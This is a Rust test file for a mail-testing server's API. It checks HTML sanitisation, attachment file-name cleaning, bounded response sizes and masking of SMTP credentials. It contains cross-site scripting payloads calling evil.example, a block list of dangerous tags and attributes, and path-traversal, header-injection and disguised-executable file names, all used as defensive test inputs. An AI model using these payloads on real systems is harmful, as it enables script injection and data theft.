//! Tests of messages that want to run, load or send something.

use super::*;

/// Checks that nothing of this HTML is left that could do anything.
#[track_caller]
fn check(html: &str) -> impl Future<Output = ()> {
    let caller = std::panic::Location::caller();
    let content = format!("Content-Type: text/html\r\n\r\n<p>before</p>{html}<p>after</p>");
    async move {
        let served = Served::new();
        served.add(content);
        let response = served.get("/api/v1/messages/1/html").await;
        assert_eq!(response.headers()["content-type"], "text/html; charset=utf-8");
        let document = octets_of(response).await;
        let document = std::str::from_utf8(&document).unwrap().to_ascii_lowercase();
        assert!(document.starts_with("<p>before</p>"), "{document}");
        for forbidden in [
            "<script",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<meta",
            "<base",
            "<form",
            "<input",
            "<button",
            "<svg",
            "<math",
            "<video",
            "<audio",
            "<source",
            "<template",
            "<select",
            "<textarea",
            "<frame",
            " on",
            " src=\"h",
            " src=\"/",
            "srcset",
            " href=\"h",
            " href=\"j",
            " background",
            " ping",
            " target",
            " action",
        ] {
            assert!(!document.contains(forbidden), "{forbidden} at {caller}: {document}");
        }
    }
}

#[tokio::test]
async fn html_that_wants_to_do_something() {
    check("<script>fetch('http://evil.example')</script>").await;
    check("<SCRIPT/src='http://evil.example/x.js'></SCRIPT>").await;
    check("<img src=http://evil.example/x.png><img src=/api/v1/messages>").await;
    check("<img src=x onerror=alert(1)><body onload=alert(1)>").await;
    check("<svg onload=alert(1)><script>alert(1)</script><use href='http://evil.example'/></svg>")
        .await;
    check("<meta http-equiv=refresh content='0;url=http://evil.example'>").await;
    check("<base href='http://evil.example/'><a href=x>x</a>").await;
    check(
        "<form action='http://evil.example'><input name=a><button formaction=x>Go</button></form>",
    )
    .await;
    check("<a href='javascript:alert(1)' target=_top ping=http://evil.example>x</a>").await;
    check("<a href='http://evil.example' target=_top>x</a>").await;
    check("<link rel=preconnect href='http://evil.example'><link rel=stylesheet href=x>").await;
    check("<iframe src='http://evil.example'></iframe><object data=x></object><embed src=x>").await;
    check("<video src=x poster=y autoplay></video><audio src=x></audio>").await;
    check("<table background='http://evil.example/x.png'><tr><td>x</table>").await;
    check("<math><mtext><table><mglyph><style><img src=x></style></math>").await;
    check("<select><style><input><link rel=preconnect href=x></style></select>").await;
}

async fn disposition_of(field: &str) -> String {
    let served = Served::new();
    served.add(format!("Content-Type: application/pdf\r\n{field}\r\n\r\noctets"));
    let response = served.get("/api/v1/messages/1/attachments/0").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "application/octet-stream");
    let disposition = response.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert_eq!(octets_of(response).await, "octets");
    disposition
}

#[tokio::test]
async fn names_of_attachments() {
    for (field, ascii, encoded) in [
        ("Content-Disposition: attachment; filename=x.pdf", "x.pdf", "x.pdf"),
        ("Content-Disposition: attachment; filename=\"../../etc/passwd\"", "passwd", "passwd"),
        (
            "Content-Disposition: attachment; filename*=utf-8''a%22b%0d%0aX%3a%20y.txt",
            "a_bX_ y.txt",
            "a_bX_%20y.txt",
        ),
        (
            "Content-Disposition: attachment; filename*=utf-8''invoice%e2%80%aefdp.exe",
            "invoicefdp.exe",
            "invoicefdp.exe",
        ),
        ("Content-Disposition: attachment; filename=\"\"", "attachment-1", "attachment-1"),
        ("Content-Disposition: attachment", "attachment-1", "attachment-1"),
        (
            "Content-Disposition: attachment; filename=\"=?utf-8?b?4oKsLnBkZg==?=\"",
            "_.pdf",
            "%E2%82%AC.pdf",
        ),
    ] {
        let expected = format!("attachment; filename=\"{ascii}\"; filename*=UTF-8''{encoded}");
        assert_eq!(disposition_of(field).await, expected, "{field}");
    }
    let long = format!("Content-Disposition: attachment; filename={}.pdf", "x".repeat(10_000));
    assert!(disposition_of(&long).await.len() < 500);
}

#[tokio::test]
async fn attachments_are_what_was_sent() {
    let served = Served::new();
    let octets: Vec<u8> = (0..=255).cycle().take(100_000).collect();
    let encoded = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(&octets)
    };
    let lines: Vec<&str> =
        encoded.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap()).collect();
    served.add(format!(
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        lines.join("\r\n")
    ));
    let response = served.get("/api/v1/messages/1/attachments/0").await;
    assert_eq!(octets_of(response).await, octets);
}

#[tokio::test]
async fn the_source_is_what_was_sent() {
    let served = Served::new();
    let content: Vec<u8> = (0..=255).collect();
    served.add(content.clone());
    let response = served.get("/api/v1/messages/1/source").await;
    let disposition = "attachment; filename=\"message-1.eml\"; filename*=UTF-8''message-1.eml";
    assert_eq!(response.headers()["content-disposition"], disposition);
    assert_eq!(octets_of(response).await, content);
}

#[tokio::test]
async fn a_message_of_any_size_has_a_bounded_answer() {
    let served = Served::new();
    served.add("X-Field: value\r\n".repeat(100_000));
    served.add(format!("Subject: {}\r\n\r\n{}", "x".repeat(5_000_000), "y".repeat(5_000_000)));
    for id in [1, 2] {
        let response = served.get(&format!("/api/v1/messages/{id}")).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(octets_of(response).await.len() < 3_000_000);
    }
    let response = served.get("/api/v1/messages").await;
    assert!(octets_of(response).await.len() < 10_000);
}

/// Sends each line, waits for its reply, and checks the client's lines as they are shown.
async fn check_dialogue(offer: &[&str], lines: &[&str], expected: &[&str]) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let builder = smtp_testkit::Server::builder().user("bob", "secret");
    let builder = offer.iter().fold(builder, |builder, line| builder.offer(line));
    let lints = smtp_testkit::Lint::ALL;
    let builder = lints.iter().fold(builder, |builder, lint| builder.tolerate(*lint));
    let (server, mut client) = builder.pipe();
    let mut buffer = [0; 4_096];
    assert_ne!(client.read(&mut buffer).await.unwrap(), 0);
    for line in lines {
        client.write_all(format!("{line}\r\n").as_bytes()).await.unwrap();
        assert_ne!(client.read(&mut buffer).await.unwrap(), 0);
    }
    drop(client);
    let report = server.finish().await.unwrap();
    let shown = dialogue::dialogue(&report.connections()[0]);
    let of_client = shown["lines"].as_array().unwrap().iter();
    let of_client = of_client.filter(|line| line["speaker"] == "client");
    let of_client: Vec<_> = of_client.map(|line| line["line"].as_str().unwrap()).collect();
    assert_eq!(of_client, expected);
}

#[tokio::test]
async fn secrets_of_a_dialogue_are_hidden() {
    let (secret, wrong) = ("AGJvYgBzZWNyZXQ=", "AGJvYgB3cm9uZw==");
    check_dialogue(
        &["AUTH PLAIN"],
        &["EHLO c", &format!("AUTH PLAIN {wrong}"), "auth plain", secret, "NOOP", "QUIT"],
        &["EHLO c", "AUTH PLAIN [hidden]", "auth plain", "[hidden]", "NOOP", "QUIT"],
    )
    .await;
    // What looks like a command is a secret after 334.
    check_dialogue(
        &["AUTH PLAIN"],
        &["EHLO c", "AUTH PLAIN", "QUIT", "QUIT"],
        &["EHLO c", "AUTH PLAIN", "[hidden]", "QUIT"],
    )
    .await;
    // AUTH is not offered, and the client does not care.
    check_dialogue(
        &[],
        &["EHLO c", "AUTH LOGIN", "Ym9i", "c2VjcmV0", "MAIL FROM:<a@example.org>", "QUIT"],
        &["EHLO c", "AUTH LOGIN", "[hidden]", "[hidden]", "MAIL FROM:<a@example.org>", "QUIT"],
    )
    .await;
}
